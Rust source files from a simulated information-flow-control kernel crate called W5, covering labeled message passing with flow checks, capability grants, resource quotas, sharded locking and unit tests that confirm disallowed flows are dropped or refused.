        p.caps.extend(caps);
        drop(guard);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "grant".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Send a message. Delivery is checked against flow rules; on refusal
    /// the message is **silently dropped** and `Ok(Delivery::Dropped)` is
    /// returned. Untrusted callers must not branch on the returned value —
    /// the platform API hides it from applications.
    pub fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery> {
        match self.send_strict(from, to, payload, grant) {
            Ok(()) => Ok(Delivery::Delivered),
            Err(KernelError::Difc(_)) => Ok(Delivery::Dropped),
            Err(e) => Err(e),
        }
    }

    /// Send with the flow decision surfaced. Only trusted components may
    /// call this; the platform never exposes it to applications.
    pub fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()> {
        // Transient IPC failure: injected before the flow check so neither
        // counters nor mailboxes move — the message simply never happened.
        if w5_chaos::inject(w5_chaos::Site::KernelSend).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSend.as_str()));
        }
        // Child span only inside an already-sampled trace; the sender's
        // secrecy is unioned in once snapshotted (below).
        let mut trace_span = w5_obs::span_if_active(
            "kernel.send",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        self.shared.sends_checked.fetch_add(1, Ordering::Relaxed);
        let registry = Arc::clone(&self.shared.registry);
        // Both shards for the whole check-and-deliver: sender labels,
        // receiver labels, quota charge and mailbox push are one atomic
        // step, exactly as under the old global lock.
        let mut guards = self.lock_pair(from, to);

        // Snapshot sender state.
        let (s_labels, s_pair, s_caps) = {
            let p = guards
                .sender()
                .get(&from)
                .ok_or(KernelError::NoSuchProcess(from))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(from));
            }
            (p.labels.clone(), p.pair, p.caps.clone())
        };
        // The effective bag is an allocating union with the global bag;
        // compute it only when a grant must be validated (the empty grant
        // is the common case) or the interned fast path below misses.
        let mut s_eff = None;
        if !grant.is_empty() {
            let eff = s_eff.insert(registry.effective(&s_caps));
            if !grant.is_subset(eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }

        // Receiver state.
        let r_pair = {
            let p = guards
                .receiver()
                .get(&to)
                .ok_or(KernelError::NoSuchProcess(to))?;
            if p.state == ProcessState::Dead {
                return Err(KernelError::ProcessDead(to));
            }
            p.pair
        };

        // Delivery is checked against the receiver's labels *as they stand*:
        // a receiver that wants high-secrecy data must raise its label first
        // (Flume's endpoint discipline). Only the sender's privileges adjust
        // the comparison — if the receiver's effective `t+` were consulted
        // here, any process could absorb export-protected data while staying
        // unlabeled, which is exactly the laundering W5 must prevent.
        //
        // Fast path: if the zero-privilege flow already holds — sender
        // secrecy ⊆ receiver secrecy and receiver integrity ⊆ sender
        // integrity, both memoized lock-free id-level subset probes — the
        // privileged rule holds a fortiori (privileges only ever relax it),
        // so the capability algebra is skipped.
        let fast_ok = w5_difc::intern::subset(s_pair.secrecy, r_pair.secrecy)
            && w5_difc::intern::subset(r_pair.integrity, s_pair.integrity);
        let flow = if fast_ok {
            // Ledger parity with the slow path, which counts one "flow"
            // check inside `can_flow_with` — but emitted only after the
            // shard guards drop (lockdep: the fast path takes no ledger
            // lock under kernel.shard). Every return path below emits the
            // deferred check exactly once, in the same pre-IpcSend
            // position the reference kernel uses, so serial-arm ledger
            // digests stay bit-identical.
            Ok(())
        } else {
            let eff = match &s_eff {
                Some(eff) => eff,
                None => s_eff.insert(registry.effective(&s_caps)),
            };
            let r_labels = r_pair.resolve();
            // The rule evaluation ledgers its flow check while both shard
            // guards are held; intentional (the labels under comparison
            // live inside the guarded tables).
            let _obs_permit = lockdep::allow_held("obs.ledger");
            // Secrecy: sender may shed tags it can declassify.
            rules::can_flow_with(&s_labels.secrecy, eff, &r_labels.secrecy, &CapSet::empty())
                // Integrity: every claim the receiver holds must be carried
                // or endorsable by the sender.
                .and(rules::integrity_flow_with(
                    &s_labels.integrity,
                    eff,
                    &r_labels.integrity,
                    &CapSet::empty(),
                ))
        };
        if let Err(e) = flow {
            self.shared.sends_dropped.fetch_add(1, Ordering::Relaxed);
            drop(guards);
            if let Some(s) = trace_span.as_mut() {
                s.add_secrecy(&s_pair.secrecy.to_obs());
            }
            // The drop itself is sender-labeled data: who tried to reach whom
            // is only visible to viewers cleared for the sender's secrecy.
            w5_obs::record(
                &s_pair.secrecy.to_obs(),
                w5_obs::EventKind::IpcSend {
                    from: from.0,
                    to: to.0,
                    bytes: payload.len() as u64,
                    delivered: false,
                },
            );
            return Err(e.into());
        }

        // Charge the sender's network/IPC budget.
        let size = payload.len() as u64;
        let obs_secrecy = s_pair.secrecy.to_obs();
        let charged = {
            let p = guards.sender().get_mut(&from).expect("sender checked above");
            p.container.charge_network(size)
        };
        if let Err(e) = charged {
            drop(guards);
            if fast_ok {
                w5_obs::count_check("flow", true, &obs_secrecy);
            }
            return Err(e.into());
        }
        let msg = Message { from, payload, labels: s_labels, grant };
        let q = guards.receiver().get_mut(&to).expect("receiver checked above");
        q.mailbox.push_back(msg);
        if q.state == ProcessState::Blocked {
            q.state = ProcessState::Runnable;
        }
        drop(guards);
        if fast_ok {
            w5_obs::count_check("flow", true, &obs_secrecy);
        }
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::IpcSend { from: from.0, to: to.0, bytes: size, delivered: true },
        );
        Ok(())
    }

    /// Dequeue the next message for `pid`, merging any capability grant into
    /// the receiver's private bag. Returns `None` (and blocks the process)
    /// when the mailbox is empty.
    pub fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        match p.mailbox.pop_front() {
            Some(msg) => {
                p.caps.extend(&msg.grant);
                drop(guard);
                w5_obs::record(
                    &msg.labels.secrecy.to_obs(),
                    w5_obs::EventKind::IpcRecv { pid: pid.0, bytes: msg.payload.len() as u64 },
                );
                Ok(Some(msg))
            }
            None => {
                p.state = ProcessState::Blocked;
                Ok(None)
            }
        }
    }

    /// Charge a resource against a process's container.
    pub fn charge(&self, pid: ProcessId, kind: ResourceKind, amount: u64) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let res = match kind {
            ResourceKind::Cpu => p.container.charge_cpu(amount),
            ResourceKind::Memory => p.container.charge_memory(amount),
            ResourceKind::Disk => p.container.charge_disk(amount),
            ResourceKind::Network => p.container.charge_network(amount),
        };
        res.map_err(Into::into)
    }

    /// Release previously charged memory.
    pub fn release_memory(&self, pid: ProcessId, amount: u64) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.container.release_memory(amount);
        Ok(())
    }

    /// Resource usage snapshot for a process.
    pub fn usage(&self, pid: ProcessId) -> KernelResult<ResourceUsage> {
        self.shard(pid)
            .get(&pid)
            .map(|p| p.container.usage())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// CPU tokens remaining this epoch for a process.
    pub fn cpu_tokens(&self, pid: ProcessId) -> KernelResult<u64> {
        self.shard(pid)
            .get(&pid)
            .map(|p| p.container.cpu_tokens())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Refill every live process's CPU bucket — the scheduler epoch boundary.
    /// Shards are refilled one at a time (never two locks at once); a
    /// process created concurrently with the sweep may or may not be
    /// refilled this epoch, exactly as a process created concurrently
    /// with the old global-lock sweep landed before or after it.
    pub fn refill_epoch(&self) {
        for shard in self.shared.shards.iter() {
            let mut guard = shard.procs.lock();
            for p in guard.values_mut() {
                if p.state != ProcessState::Dead {
                    p.container.refill_epoch();
                }
            }
        }
    }

    /// Terminate a process. Its mailbox is discarded and further syscalls
    /// fail with [`KernelError::ProcessDead`].
    pub fn exit(&self, pid: ProcessId) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.state = ProcessState::Dead;
        p.mailbox.clear();
        Ok(())
    }

    /// Remove a dead process from the table entirely (platform GC).
    pub fn reap(&self, pid: ProcessId) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        match guard.get(&pid) {
            Some(p) if p.state == ProcessState::Dead => {
                guard.remove(&pid);
                Ok(())
            }
            Some(_) => Err(KernelError::ProcessDead(pid)), // still alive: refuse
            None => Err(KernelError::NoSuchProcess(pid)),
        }
    }

    /// Number of live (non-dead) processes. Shard-by-shard sweep: the sum
    /// is exact for any quiescent machine and a consistent-enough estimate
    /// under churn (same caveat the global-lock count had the moment its
    /// lock dropped).
    pub fn live_processes(&self) -> usize {
        self.shared
            .shards
            .iter()
            .map(|s| {
                s.procs
                    .lock()
                    .values()
                    .filter(|p| p.state != ProcessState::Dead)
                    .count()
            })
            .sum()
    }

    /// Flow-decision counters.
    pub fn stats(&self) -> KernelStats {
        KernelStats {
            sends_checked: self.shared.sends_checked.load(Ordering::Relaxed),
            sends_dropped: self.shared.sends_dropped.load(Ordering::Relaxed),
            label_changes: self.shared.label_changes.load(Ordering::Relaxed),
            label_changes_denied: self.shared.label_changes_denied.load(Ordering::Relaxed),
        }
    }

    /// Convenience used throughout the platform: can data labeled `data`
    /// currently be read by process `pid` (with its effective caps), and if
    /// so, raise the process's labels accordingly.
    pub fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()> {
        let data_pair = data.interned();
        let registry = Arc::clone(&self.shared.registry);
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        // Fast path: already tainted at least as high as the data and the
        // data vouches every claim the process holds — `labels_for_read`
        // would return `Allowed` without consulting capabilities, so the
        // effective-bag union is skipped. (Ledger parity: the slow path
        // counts one "read" check.)
        if w5_difc::intern::subset(data_pair.secrecy, p.pair.secrecy)
            && w5_difc::intern::subset(p.pair.integrity, data_pair.integrity)
        {
            drop(guard);
            w5_obs::count_check("read", true, &data_pair.secrecy.to_obs());
            return Ok(());
        }
        let eff = registry.effective(&p.caps);
        // The read check ledgers its verdict under the shard guard;
        // intentional (taint raising must be atomic with the check).
        let _obs_permit = lockdep::allow_held("obs.ledger");
        match rules::labels_for_read(&p.labels, &eff, data) {
            rules::FlowCheck::Allowed => Ok(()),
            rules::FlowCheck::AllowedWithChange { new_secrecy, new_integrity } => {
                p.set_labels(LabelPair::new(new_secrecy, new_integrity));
                Ok(())
            }
            rules::FlowCheck::Denied(e) => Err(e.into()),
        }
    }

    /// Would a write by `pid` to an object labeled `obj` be admissible?
    pub fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()> {
        let guard = self.shard(pid);
        let p = guard
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let eff = self.shared.registry.effective(&p.caps);
        // The write check ledgers its verdict under the shard guard;
        // intentional (the verdict must describe the labels it inspected).
        let _obs_permit = lockdep::allow_held("obs.ledger");
        match rules::labels_for_write(&p.labels, &eff, obj) {
            rules::FlowCheck::Denied(e) => Err(e.into()),
            _ => Ok(()),
        }
    }

    /// Does `pid` effectively hold the capability?
    pub fn holds(&self, pid: ProcessId, cap: Capability) -> KernelResult<bool> {
        let guard = self.shard(pid);
        let p = guard
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        Ok(self.shared.registry.effectively_holds(&p.caps, cap))
    }
}

/// The kernel's counter snapshot is entirely lock-free (relaxed atomics),
/// so lockdep context providers and sim harnesses can sample the live
/// operation mix while arbitrary shard locks are held elsewhere.
impl w5_obs::Snapshot for Kernel {
    type View = KernelStats;

    fn snapshot(&self) -> KernelStats {
        self.stats()
    }
}

impl crate::api::Syscalls for Kernel {
    fn registry(&self) -> &Arc<TagRegistry> {
        self.registry()
    }
    fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId {
        self.create_process(name, labels, caps, limits)
    }
    fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId> {
        self.spawn(parent, spec)
    }
    fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo> {
        self.process_info(pid)
    }
    fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair> {
        self.labels(pid)
    }
    fn caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        self.caps(pid)
    }
    fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag> {
        self.create_tag(pid, kind, name)
    }
    fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()> {
        self.change_labels(pid, new)
    }
    fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        self.drop_caps(pid, caps)
    }
    fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        self.grant_caps(pid, caps)
    }
    fn send(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<Delivery> {
        self.send(from, to, payload, grant)
    }
    fn send_strict(
        &self,
        from: ProcessId,
        to: ProcessId,
        payload: Bytes,
        grant: CapSet,
    ) -> KernelResult<()> {
        self.send_strict(from, to, payload, grant)
    }
    fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>> {
        self.recv(pid)
    }
    fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()> {
        self.taint_for_read(pid, data)
    }
    fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()> {
        self.check_write(pid, obj)
    }
    fn exit(&self, pid: ProcessId) -> KernelResult<()> {
        self.exit(pid)
    }
    fn reap(&self, pid: ProcessId) -> KernelResult<()> {
        self.reap(pid)
    }
    fn live_processes(&self) -> usize {
        self.live_processes()
    }
    fn stats(&self) -> KernelStats {
        self.stats()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_difc::Label;

    fn kernel() -> Kernel {
        Kernel::new(Arc::new(TagRegistry::new()))
    }

    fn mk(k: &Kernel, name: &str) -> ProcessId {
        k.create_process(name, LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited())
    }

    /// Every `kernel.shard` nesting recorded in `run` must be ascending
    /// (the TwoShards rule); panics with the offending pair otherwise.
    fn assert_shard_order_ascending(run: &lockdep::ObservedRun) {
        for ev in &run.same_class {
            if ev.class != "kernel.shard" {
                continue;
            }
            assert!(
                ev.acquired_index > ev.held_index,
                "TwoShards ordering inverted: shard {} acquired while shard {} held (at {})",
                ev.acquired_index,
                ev.held_index,
                ev.site,
            );
        }
    }

    #[test]
    fn two_shards_cross_shard_acquires_ascending() {
        let rec = Arc::new(lockdep::Recorder::new());
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let k = Kernel::with_shards(4, Arc::new(TagRegistry::new()));
        let a = mk(&k, "a"); // pid 1 -> shard 1
        let b = mk(&k, "b"); // pid 2 -> shard 2
        assert_ne!(k.shard_ix(a), k.shard_ix(b), "fixture needs distinct shards");
        // Both argument orders must produce the same (ascending) lock order.
        drop(k.lock_pair(a, b));
        drop(k.lock_pair(b, a));
        let run = rec.snapshot();
        assert!(
            run.same_class.iter().any(|ev| ev.class == "kernel.shard"),
            "cross-shard pair must nest kernel.shard locks"
        );
        assert_shard_order_ascending(&run);
    }

    #[test]
    fn two_shards_same_shard_takes_single_guard() {
        let rec = Arc::new(lockdep::Recorder::new());
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let k = Kernel::with_shards(4, Arc::new(TagRegistry::new()));
        let a = mk(&k, "a"); // pid 1 -> shard 1
        let b = {
            // Burn pids until one lands on a's shard again (pid 5 with 4 shards).
            let mut p = mk(&k, "b");
            while k.shard_ix(p) != k.shard_ix(a) {
                p = mk(&k, "b");
            }
            p
        };
        drop(k.lock_pair(a, b));
        let run = rec.snapshot();
        assert!(
            run.same_class.iter().all(|ev| ev.class != "kernel.shard"),
            "same-shard pair must take exactly one guard, got {:?}",
            run.same_class,
        );
    }

    #[test]
    fn two_shards_send_paths_keep_ascending_order() {
        let rec = Arc::new(lockdep::Recorder::new());
        let _scope = lockdep::scoped(Arc::clone(&rec));
        let k = Kernel::with_shards(4, Arc::new(TagRegistry::new()));
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        assert_ne!(k.shard_ix(a), k.shard_ix(b));
        k.send(a, b, Bytes::from_static(b"fwd"), CapSet::empty()).unwrap();
        k.send(b, a, Bytes::from_static(b"rev"), CapSet::empty()).unwrap();
        assert_eq!(&k.recv(b).unwrap().unwrap().payload[..], b"fwd");
        assert_eq!(&k.recv(a).unwrap().unwrap().payload[..], b"rev");
        assert_shard_order_ascending(&rec.snapshot());
    }

    #[test]
    fn create_and_info() {
        let k = kernel();
        let pid = mk(&k, "a");
        let info = k.process_info(pid).unwrap();
        assert_eq!(info.name, "a");
        assert_eq!(info.state, ProcessState::Runnable);
        assert_eq!(info.mailbox_len, 0);
        assert_eq!(k.live_processes(), 1);
    }

    #[test]
    fn send_recv_roundtrip() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let d = k.send(a, b, Bytes::from_static(b"hi"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Delivered);
        let msg = k.recv(b).unwrap().unwrap();
        assert_eq!(&msg.payload[..], b"hi");
        assert_eq!(msg.from, a);
        // Empty mailbox blocks.
        assert!(k.recv(b).unwrap().is_none());
        assert_eq!(k.process_info(b).unwrap().state, ProcessState::Blocked);
        // A new message unblocks.
        k.send(a, b, Bytes::from_static(b"x"), CapSet::empty()).unwrap();
        assert_eq!(k.process_info(b).unwrap().state, ProcessState::Runnable);
    }

    #[test]
    fn tainted_sender_is_silently_dropped() {
        let k = kernel();
        let a = mk(&k, "tainted");
        let b = mk(&k, "clean");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:bob").unwrap();
        // a raises its secrecy (t+ is global).
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        // a created the tag so it holds e-; drop it to model an untrusted app
        // that merely read Bob's data.
        let mut minus = CapSet::empty();
        minus.insert(Capability::minus(e));
        k.drop_caps(a, &minus).unwrap();

        let d = k.send(a, b, Bytes::from_static(b"secret"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Dropped, "flow to unlabeled receiver must drop");
        assert!(k.recv(b).unwrap().is_none());
        assert_eq!(k.stats().sends_dropped, 1);

        // Strict variant surfaces the denial (trusted callers only).
        let err = k
            .send_strict(a, b, Bytes::from_static(b"secret"), CapSet::empty())
            .unwrap_err();
        assert!(matches!(err, KernelError::Difc(DifcError::SecrecyViolation { .. })));
    }

    #[test]
    fn receiver_with_plus_accepts_high_secrecy() {
        let k = kernel();
        let owner = mk(&k, "owner");
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let e = k.create_tag(owner, TagKind::ReadProtect, "read:x").unwrap();
        // a is granted read access (e+) and raises to hold the data; it has
        // no e-, so it cannot declassify toward unlabeled receivers.
        let mut aplus = CapSet::empty();
        aplus.insert(Capability::plus(e));
        k.grant_caps(a, &aplus).unwrap();
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        // b cannot receive while unlabeled: delivery is checked raw.
        assert_eq!(
            k.send(a, b, Bytes::from_static(b"s"), CapSet::empty()).unwrap(),
            Delivery::Dropped
        );
        // b cannot even raise its label: ReadProtect keeps t+ private.
        let high = LabelPair::new(Label::singleton(e), Label::empty());
        assert!(k.change_labels(b, high.clone()).is_err());
        // Grant b the t+, let it raise, and delivery succeeds.
        let mut plus = CapSet::empty();
        plus.insert(Capability::plus(e));
        k.grant_caps(b, &plus).unwrap();
        k.change_labels(b, high).unwrap();
        assert_eq!(
            k.send(a, b, Bytes::from_static(b"s"), CapSet::empty()).unwrap(),
            Delivery::Delivered
        );
    }

    #[test]
    fn grant_requires_holding() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let t = Tag::from_raw(1234); // never allocated to a
        let mut g = CapSet::empty();
        g.insert(Capability::minus(t));
        let err = k.send(a, b, Bytes::new(), g).unwrap_err();
        assert_eq!(err, KernelError::GrantNotHeld);
    }

    #[test]
    fn caps_transfer_over_ipc() {
        let k = kernel();
        let a = mk(&k, "user");
        let b = mk(&k, "declassifier");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:u").unwrap();
        let mut g = CapSet::empty();
        g.insert(Capability::minus(e));
        k.send(a, b, Bytes::from_static(b"here is my export privilege"), g)
            .unwrap();
        k.recv(b).unwrap().unwrap();
        assert!(k.caps(b).unwrap().has_minus(e), "grant merged on recv");
    }

    #[test]
    fn spawn_inherits_within_rules() {
        let k = kernel();
        let a = mk(&k, "parent");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:u").unwrap();
        // Child at S={e}: fine, t+ is global.
        let child = k
            .spawn(
                a,
                SpawnSpec {
                    name: "child".into(),
                    labels: LabelPair::new(Label::singleton(e), Label::empty()),
                    grant: CapSet::empty(),
                    limits: ResourceLimits::sandbox_default(),
                },
            )
            .unwrap();
        assert_eq!(k.process_info(child).unwrap().parent, Some(a));

        // Child granted caps the parent holds: fine.
        let mut g = CapSet::empty();
        g.insert(Capability::minus(e));
        assert!(k
            .spawn(
                a,
                SpawnSpec {
                    name: "c2".into(),
                    labels: LabelPair::public(),
                    grant: g.clone(),
                    limits: ResourceLimits::unlimited(),
                }
            )
            .is_ok());

        // A *tainted* parent cannot spawn an untainted child without e-.
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        k.drop_caps(a, &g).unwrap();
        let err = k
            .spawn(
                a,
                SpawnSpec {
                    name: "laundry".into(),
                    labels: LabelPair::public(),
                    grant: CapSet::empty(),
                    limits: ResourceLimits::unlimited(),
                },
            )
            .unwrap_err();
        assert!(matches!(err, KernelError::Difc(_)), "spawn is not a declassification channel");
    }

    #[test]
    fn quotas_enforced_on_send() {
        let k = kernel();
        let a = k.create_process(
            "limited",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { network_bytes: 10, ..ResourceLimits::unlimited() },
        );
        let b = mk(&k, "sink");
        assert!(k.send(a, b, Bytes::from(vec![0u8; 10]), CapSet::empty()).is_ok());
        let err = k.send(a, b, Bytes::from(vec![0u8; 1]), CapSet::empty()).unwrap_err();
        assert!(matches!(err, KernelError::Quota(_)), "quota errors are not silent: {err:?}");
    }

    #[test]
    fn exit_and_reap() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        k.exit(b).unwrap();
        assert!(matches!(
            k.send(a, b, Bytes::new(), CapSet::empty()),
            Err(KernelError::ProcessDead(_))
        ));
        assert!(matches!(k.reap(a), Err(KernelError::ProcessDead(_))), "cannot reap live process");
        k.reap(b).unwrap();
        assert!(matches!(
            k.process_info(b),
            Err(KernelError::NoSuchProcess(_))
        ));
        assert_eq!(k.live_processes(), 1);
    }

    #[test]
    fn taint_for_read_and_check_write() {
        let k = kernel();
        let app = mk(&k, "app");
        let owner = mk(&k, "owner");
        let e = k.create_tag(owner, TagKind::ExportProtect, "export:o").unwrap();
        let data = LabelPair::new(Label::singleton(e), Label::empty());

        // Reading taints.
        k.taint_for_read(app, &data).unwrap();
        assert_eq!(k.labels(app).unwrap().secrecy, Label::singleton(e));
        // Tainted app cannot write public objects.
        assert!(k.check_write(app, &LabelPair::public()).is_err());
        // But can write objects at the same secrecy.
        assert!(k.check_write(app, &data).is_ok());
        // The owner (holding e-) can write public objects even after reading.
        k.taint_for_read(owner, &data).unwrap();
        assert!(k.check_write(owner, &LabelPair::public()).is_ok());
    }

    #[test]
    fn epoch_refill() {
        let k = kernel();
        let a = k.create_process(
            "cpu-bound",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { cpu_per_epoch: 5, ..ResourceLimits::unlimited() },
        );
        k.charge(a, ResourceKind::Cpu, 5).unwrap();
        assert!(k.charge(a, ResourceKind::Cpu, 1).is_err());
        k.refill_epoch();
        assert!(k.charge(a, ResourceKind::Cpu, 1).is_ok());
        assert_eq!(k.cpu_tokens(a).unwrap(), 4);
    }

    #[test]
    fn shard_count_rounds_to_power_of_two() {
        let r = Arc::new(TagRegistry::new());
        assert_eq!(Kernel::with_shards(0, Arc::clone(&r)).shard_count(), 1);
        assert_eq!(Kernel::with_shards(1, Arc::clone(&r)).shard_count(), 1);
        assert_eq!(Kernel::with_shards(3, Arc::clone(&r)).shard_count(), 4);
        assert_eq!(Kernel::with_shards(16, Arc::clone(&r)).shard_count(), 16);
        assert_eq!(kernel().shard_count(), DEFAULT_SHARDS);
    }

    #[test]
    fn cross_shard_send_works_both_directions() {
        // With the default 16 shards, pids 1 and 2 land in shards 1 and 2:
        // sends exercise both lock orders (low→high and high→low).
        let k = kernel();
        let a = mk(&k, "a"); // pid 1
        let b = mk(&k, "b"); // pid 2
        assert_ne!(k.shard_ix(a), k.shard_ix(b));
        k.send_strict(a, b, Bytes::from_static(b"up"), CapSet::empty()).unwrap();
        k.send_strict(b, a, Bytes::from_static(b"down"), CapSet::empty()).unwrap();
        assert_eq!(&k.recv(b).unwrap().unwrap().payload[..], b"up");
        assert_eq!(&k.recv(a).unwrap().unwrap().payload[..], b"down");
    }

    #[test]
    fn self_send_single_shard() {
        let k = kernel();
        let a = mk(&k, "loopback");
        k.send_strict(a, a, Bytes::from_static(b"echo"), CapSet::empty()).unwrap();
        assert_eq!(&k.recv(a).unwrap().unwrap().payload[..], b"echo");
        assert_eq!(k.stats().sends_checked, 1);
    }

    #[test]
    fn single_shard_kernel_still_correct() {
        // Degenerate 1-shard configuration: every pair is same-shard.
        let k = Kernel::with_shards(1, Arc::new(TagRegistry::new()));
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        assert_eq!(k.shard_ix(a), k.shard_ix(b));
        k.send_strict(a, b, Bytes::from_static(b"one"), CapSet::empty()).unwrap();
        assert_eq!(&k.recv(b).unwrap().unwrap().payload[..], b"one");
    }
}
