//! # w5-kernel — the simulated operating-system substrate
//!
//! The W5 paper assumes a DIFC operating system (Asbestos, HiStar, or Flume
//! on Linux) underneath the meta-application. This crate is that substrate,
//! scoped to one deterministic in-process "machine":
//!
//! * [`Kernel`] — the system-call surface: labeled [`process`]es, tag
//!   creation, safe label changes, capability grants, message-passing IPC
//!   with flow checks, and labeled spawn.
//! * [`resource`] — resource containers (paper §3.5): CPU / memory / disk /
//!   network budgets per process, enforced at the syscall boundary so a
//!   rogue application cannot degrade the cluster.
//! * [`sched`] — a deterministic round-robin scheduler driving cooperative
//!   tasks, used by the resource-allocation and covert-channel experiments.
//! * [`api`] — the [`Syscalls`] trait abstracting the syscall surface over
//!   both kernel implementations.
//! * [`reference`] — the pre-sharding single-lock kernel, kept verbatim as
//!   the baseline arm of `w5-sim`'s differential concurrency oracle.
//!
//! ## Concurrency
//!
//! [`Kernel`] stripes process state across power-of-two lock shards
//! (pid-hashed) so syscalls on different processes run in parallel;
//! cross-shard sends take both shard locks in ascending index order (the
//! kernel-wide deadlock-freedom rule). See the module docs in [`kernel`]
//! and DESIGN.md §14.
//!
//! ## Covert-channel hygiene
//!
//! A flow denial is itself a bit of information. Following Flume, the
//! kernel offers two send flavors: [`Kernel::send`] *silently drops*
//! messages whose delivery would violate flow rules (the sender learns
//! nothing), while [`Kernel::send_strict`] surfaces the denial and is only
//! exposed to trusted platform components. The same discipline appears in
//! `w5-store`, where unreadable rows are silently filtered.
//!
//! Nothing here uses wall-clock time or OS randomness: experiments are
//! bit-for-bit reproducible.

#![forbid(unsafe_code)]

pub mod api;
pub mod ids;
pub mod kernel;
pub mod message;
pub mod process;
pub mod reference;
pub mod resource;
pub mod sched;

pub use api::Syscalls;
pub use ids::ProcessId;
pub use kernel::{Delivery, Kernel, KernelError, KernelResult, KernelStats, SpawnSpec, DEFAULT_SHARDS};
pub use reference::ReferenceKernel;
pub use message::Message;
pub use process::{ProcessInfo, ProcessState};
pub use resource::{ResourceContainer, ResourceKind, ResourceLimits, ResourceUsage};
pub use resource::QuotaExceeded;
pub use sched::{EpochPacer, Scheduler, SchedulerReport, Step, Task};
