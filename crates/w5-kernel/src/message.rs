//! IPC messages.

use crate::ids::ProcessId;
use bytes::Bytes;
use w5_difc::{CapSet, LabelPair};

/// A message queued in a process mailbox.
///
/// Messages carry the *labels of the data they contain* (stamped by the
/// kernel from the sender's labels at send time, so senders cannot
/// under-declare), plus an optional capability grant: Flume lets processes
/// pass capabilities over IPC, which is how W5 users hand `e_u-` to the
/// declassifiers they adopt.
#[derive(Clone, Debug)]
pub struct Message {
    /// The sending process.
    pub from: ProcessId,
    /// Opaque payload bytes (cheaply clonable).
    pub payload: Bytes,
    /// Labels the payload carries.
    pub labels: LabelPair,
    /// Capabilities granted to the receiver upon delivery.
    pub grant: CapSet,
}

impl Message {
    /// Payload size in bytes, used for resource accounting.
    pub fn size(&self) -> usize {
        self.payload.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn size_reflects_payload() {
        let m = Message {
            from: ProcessId(1),
            payload: Bytes::from_static(b"hello"),
            labels: LabelPair::public(),
            grant: CapSet::empty(),
        };
        assert_eq!(m.size(), 5);
    }
}
